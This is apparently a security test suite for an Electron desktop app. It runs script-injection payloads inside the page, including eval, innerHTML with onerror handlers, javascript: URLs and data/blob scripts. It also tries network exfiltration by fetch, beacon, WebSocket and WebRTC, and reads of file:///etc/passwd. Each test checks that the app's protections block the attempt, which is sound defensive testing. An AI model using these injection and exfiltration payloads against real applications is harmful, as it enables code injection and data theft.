// Every protection, attacked from inside the page and seen to hold.

import { get } from 'node:http';
import { once } from 'node:events';
import { attack, isTakenOver } from './attack';
import { expect, test } from './shared-lab';
import { listen, type ListeningServer } from './listening-server';

const PAGE = 'app://lab/index.html';

let outside: ListeningServer;

test.beforeEach(async () => {
  outside = await listen();
});
// The shared window is loaded anew: nothing of an attack stays for the next test.
test.afterEach(async ({ lab: { page, complaints } }) => {
  await page.goto(PAGE);
  complaints.splice(0);
  await outside.close();
});

test('the attacks are real: they see what is allowed', async ({ lab: { page } }) => {
  expect(page.url()).toBe(PAGE);
  expect(await attack(page, 'return 1 + 1')).toBe(2);
  expect(await attack(page, `return (await fetch('${PAGE}')).status`)).toBe(200);
  expect(await isTakenOver(page)).toBe(false);
  await attack(page, 'window.pwned = true');
  expect(await isTakenOver(page)).toBe(true);
  await once(get(`http://${outside.host}/control`), 'response');
  expect(outside.visits).toEqual(['GET /control']);
});

test('code that did not come with the app does not run', async ({ lab: { page } }) => {
  const attacks: Record<string, string> = {
    eval: `eval('window.pwned = 1')`,
    'indirect eval': `(0, eval)('window.pwned = 1')`,
    Function: `new Function('window.pwned = 1')()`,
    'a timer of text': `setTimeout('window.pwned = 1')`,
    'inline script': `const s = document.createElement('script'); s.append('window.pwned = 1'); document.body.append(s)`,
    'script text': `const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)`,
    'script of data': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1'; document.body.append(s)`,
    'script of a blob': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.pwned = 1'])); document.body.append(s)`,
    'script from outside': `const s = document.createElement('script'); s.src = 'http://${outside.host}/s.js'; document.body.append(s)`,
    'import of data': `await import('data:text/javascript,window.pwned=1')`,
    'import of a blob': `await import(URL.createObjectURL(new Blob(['window.pwned = 1'], { type: 'text/javascript' })))`,
    'an event handler': `const i = new Image(); i.setAttribute('onerror', 'window.pwned = 1'); document.body.append(i); i.src = 'data:image/png,x'; await new Promise((r) => setTimeout(r, 100))`,
    markup: `document.body.innerHTML = '<img src=x onerror="window.pwned = 1">'`,
    'more markup': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">')`,
    'a written document': `document.write('<script>window.pwned = 1</script>')`,
    'a frame with markup': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = 1</script>'; document.body.append(f); await new Promise((r) => setTimeout(r, 200))`,
    'a javascript: address': `location.href = 'javascript:void(window.pwned = 1)'; await new Promise((r) => setTimeout(r, 100))`,
    'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:void(window.pwned = 1)'; document.body.append(a); a.click(); await new Promise((r) => setTimeout(r, 100))`,
    'a trust policy of its own': `trustedTypes.createPolicy('default', { createScript: (s) => s, createHTML: (s) => s }); window.pwned = 1`,
    WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); window.pwned = 1`,
    'a worker of a blob': `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); await new Promise((r, e) => { w.onmessage = r; w.onerror = () => e('refused') }); window.pwned = 1`,
    'a service worker': `await navigator.serviceWorker.register('app://lab/assets/sw.js'); window.pwned = 1`,
    'an injected style': `const s = document.createElement('style'); s.append('body { --taken: 1 }'); document.head.append(s); if (getComputedStyle(document.body).getPropertyValue('--taken')) window.pwned = 1`,
  };
  for (const [name, source] of Object.entries(attacks)) {
    await attack(page, source);
    expect(await isTakenOver(page), name).toBe(false);
  }
  expect(outside.visits).toEqual([]);
});

test('nothing of Node or Electron is in the page', async ({ lab: { app, page } }) => {
  const names =
    'require process module exports Buffer global setImmediate electron ipcRenderer __dirname';
  expect(
    await attack(page, `return '${names}'.split(' ').filter((name) => name in globalThis)`),
  ).toEqual([]);
  await attack(
    page,
    `window.descentLab.request = async () => 'mine'; delete window.descentLab; window.descentLab = 1`,
  );
  expect(await attack(page, `return (await window.descentLab.request('nothing', {})).code`)).toBe(
    'refused',
  );

  const preferences = await app.evaluate(({ BrowserWindow }) => {
    const { webContents } = BrowserWindow.getAllWindows()[0];
    return (webContents as unknown as { getLastWebPreferences(): object }).getLastWebPreferences();
  });
  expect(preferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    webviewTag: false,
  });
});

test('nothing reaches the network', async ({ lab: { page } }) => {
  const { host } = outside;
  const attacks: Record<string, string> = {
    fetch: `await fetch('http://${host}/fetch')`,
    'fetch without reading': `await fetch('http://${host}/fetch', { mode: 'no-cors' })`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'http://${host}/xhr'); x.send(); await new Promise((r, e) => { x.onload = r; x.onerror = e })`,
    beacon: `if (!navigator.sendBeacon('http://${host}/beacon', 'x')) throw 'refused'; await new Promise((r, e) => setTimeout(e, 200))`,
    WebSocket: `const w = new WebSocket('ws://${host}/ws'); await new Promise((r, e) => { w.onopen = r; w.onerror = e })`,
    EventSource: `const s = new EventSource('http://${host}/events'); await new Promise((r, e) => { s.onopen = r; s.onerror = e })`,
    image: `const i = new Image(); i.src = 'http://${host}/image.png'; await new Promise((r, e) => { i.onload = r; i.onerror = e })`,
    stylesheet: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://${host}/style.css'; document.head.append(l); await new Promise((r, e) => { l.onload = r; l.onerror = e })`,
    prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://${host}/prefetch'; document.head.append(l); await new Promise((r, e) => { l.onload = r; l.onerror = e })`,
    font: `await new FontFace('taken', 'url(http://${host}/font.woff2)').load()`,
    media: `const v = document.createElement('video'); v.src = 'http://${host}/v.mp4'; await new Promise((r, e) => { v.onloadeddata = r; v.onerror = e })`,
    frame: `const f = document.createElement('iframe'); f.src = 'http://${host}/frame'; document.body.append(f); await new Promise((r, e) => setTimeout(e, 200))`,
    object: `const o = document.createElement('object'); o.data = 'http://${host}/object'; document.body.append(o); await new Promise((r, e) => setTimeout(e, 200))`,
    form: `const f = document.createElement('form'); f.action = 'http://${host}/form'; document.body.append(f); f.submit(); await new Promise((r, e) => setTimeout(e, 200))`,
    'another host of ours': `await fetch('app://evil/index.html')`,
    'a file': `await fetch('file:///etc/hostname')`,
  };
  for (const [name, source] of Object.entries(attacks)) {
    expect(await attack(page, source), name).toMatch(/^threw|^nothing came/);
    expect(outside.visits, name).toEqual([]);
  }
});

test('WebRTC connects to nothing @full', async ({ lab: { page } }) => {
  const { tcpHost, udpHost } = outside;
  const port = tcpHost.split(':')[1];
  const gather = (server: string) => `
    const p = new RTCPeerConnection({ iceServers: [{ urls: '${server}', username: 'a', credential: 'b' }] });
    p.createDataChannel('x');
    await p.setLocalDescription(await p.createOffer());
    await new Promise((r, e) => setTimeout(e, 1000));`;
  const attacks: Record<string, string> = {
    STUN: gather(`stun:${udpHost}`),
    TURN: gather(`turn:${udpHost}`),
    'TURN by TCP': gather(`turn:${tcpHost}?transport=tcp`),
    'TURN by TLS': gather(`turns:${tcpHost}?transport=tcp`),
    'a candidate by TCP': `
      const [p, q] = [new RTCPeerConnection(), new RTCPeerConnection()];
      p.createDataChannel('x');
      await p.setLocalDescription(await p.createOffer());
      await q.setRemoteDescription(p.localDescription);
      await q.setLocalDescription(await q.createAnswer());
      await p.setRemoteDescription(q.localDescription);
      const candidate = 'candidate:1 1 tcp 2105458943 127.0.0.1 ${port} typ host tcptype passive';
      await p.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
      await new Promise((r, e) => setTimeout(e, 1000));`,
  };
  const tries = Object.entries(attacks).map(async ([name, source]) => {
    expect(await attack(page, source), name).toMatch(/^threw|^nothing came/);
  });
  await Promise.all(tries);
  expect(outside.visits).toEqual([]);
});

test("a developer's address is nothing to a built app", async ({ launchLab }) => {
  const env = { ELECTRON_RENDERER_URL: `http://${outside.host}/` };
  const { page } = await launchLab({ env });
  await expect(page).toHaveURL(PAGE);
  expect(outside.visits).toEqual([]);
});

test('the page stays where it is and opens nothing @full', async ({ lab: { app, page } }) => {
  await attack(page, 'window.same = true');
  const places = [
    `http://${outside.host}/go`,
    'https://example.com/',
    'file:///etc/passwd',
    'app://evil/index.html',
    'data:text/html,taken',
    'chrome://gpu',
    'mailto:a@b.c',
  ];
  const link = (place: string, more = '') =>
    `const a = document.createElement('a'); a.href = '${place}'; ${more}; document.body.append(a); a.click()`;
  const ways: Record<string, (place: string) => string> = {
    'setting location': (place) => `location.href = '${place}'`,
    'location.replace': (place) => `location.replace('${place}')`,
    'a link': (place) => link(place),
    'a link to a new window': (place) => link(place, `a.target = '_blank'`),
    'a download': (place) => link(place, `a.download = 'x'`),
    'window.open': (place) => `if (window.open('${place}') !== null) window.pwned = true`,
  };
  for (const [name, way] of Object.entries(ways)) {
    for (const place of places) {
      await attack(page, `${way(place)}; await new Promise((r) => setTimeout(r, 30))`);
      expect(page.url(), `${name}: ${place}`).toBe(PAGE);
    }
  }
  expect(await attack(page, 'return window.same')).toBe(true);
  expect(await isTakenOver(page)).toBe(false);
  expect(app.windows()).toHaveLength(1);
  expect(outside.visits).toEqual([]);
});

/** What would leave the window without the lab. */
const ways: readonly (readonly [string, string])[] = [
  ['an empty page', `location.href = 'about:blank'`],
  ['about:srcdoc', `location.href = 'about:srcdoc'`],
  ['another address of ours, loaded', `location.href = 'app://lab/assets/nothing.js'`],
  ['another address of ours, pushed', `history.pushState(null, '', '/x/y'); location.reload()`],
  ['an emptied document', `document.open()`],
  ['a written document', `document.open(); document.close()`],
  ['a document without a root', `document.documentElement.remove()`],
];

test('any other page is replaced by ours at once @full', async ({ lab: { page } }) => {
  for (const [what, source] of ways) {
    await attack(page, 'window.same = true');
    await page.evaluate(`void setTimeout(() => { ${source} })`).catch(() => {});
    const isNew = () => !('same' in globalThis) && document.querySelector('#app > *') !== null;
    await expect.poll(() => page.evaluate(isNew).catch(() => false), what).toBe(true);
    expect(page.url(), what).toBe(PAGE);
    const asked = `return (await window.descentLab.request('continue', { job: 'descend' })).code`;
    expect(await attack(page, asked), what).not.toBe('refused');
  }
});

test('a frame inside the page has no bridge, and a webview is nothing @full', async ({
  lab: { page },
}) => {
  const bridge = await attack(
    page,
    `const f = document.createElement('iframe'); document.body.append(f);
     return [typeof f.contentWindow.descentLab, typeof f.contentWindow.require]`,
  );
  expect(bridge).toEqual(['undefined', 'undefined']);
  const framed = await attack(
    page,
    `const f = document.createElement('iframe'); f.src = '${PAGE}'; document.body.append(f);
     await new Promise((r) => setTimeout(r, 300));
     try { return f.contentDocument.title } catch { return 'another origin' }`,
  );
  expect(framed).not.toBe('Descent Lab');
  expect(page.frames().filter((frame) => frame.url() === PAGE)).toHaveLength(1);
  const webview = await attack(
    page,
    `const w = document.createElement('webview'); w.src = '${PAGE}'; document.body.append(w);
     return typeof w.loadURL`,
  );
  expect(webview).toBe('undefined');
});

test('every permission is denied @full', async ({ lab: { page } }) => {
  const names =
    'notifications geolocation clipboard-read clipboard-write camera microphone midi ' +
    'persistent-storage screen-wake-lock background-sync idle-detection window-management ' +
    'local-fonts storage-access';
  const states = await attack(
    page,
    `return Promise.all('${names}'.split(' ').map(async (name) => {
       try { return name + ' ' + (await navigator.permissions.query({ name })).state } catch { return name + ' denied' }
     }))`,
  );
  expect(states).toEqual(names.split(' ').map((name) => `${name} denied`));
  const requests: Record<string, string> = {
    notifications: `return Notification.requestPermission()`,
    geolocation: `return new Promise((r) => navigator.geolocation.getCurrentPosition(() => r('granted'), (e) => r('threw: ' + e.message)))`,
    'clipboard-read': `return navigator.clipboard.readText()`,
    camera: `return navigator.mediaDevices.getUserMedia({ video: true })`,
    microphone: `return navigator.mediaDevices.getUserMedia({ audio: true })`,
    screen: `return navigator.mediaDevices.getDisplayMedia()`,
    midi: `return navigator.requestMIDIAccess({ sysex: true })`,
    usb: `return navigator.usb.requestDevice({ filters: [] })`,
    serial: `return navigator.serial.requestPort()`,
    hid: `return navigator.hid.requestDevice({ filters: [] })`,
    bluetooth: `return navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
    'a folder': `return showDirectoryPicker()`,
    'the wake lock': `return navigator.wakeLock.request('screen')`,
  };
  for (const [name, source] of Object.entries(requests)) {
    // Chromium may first look for what the machine has.
    expect(await attack(page, source, 10_000), name).toMatch(/^threw|^denied$/);
  }
});
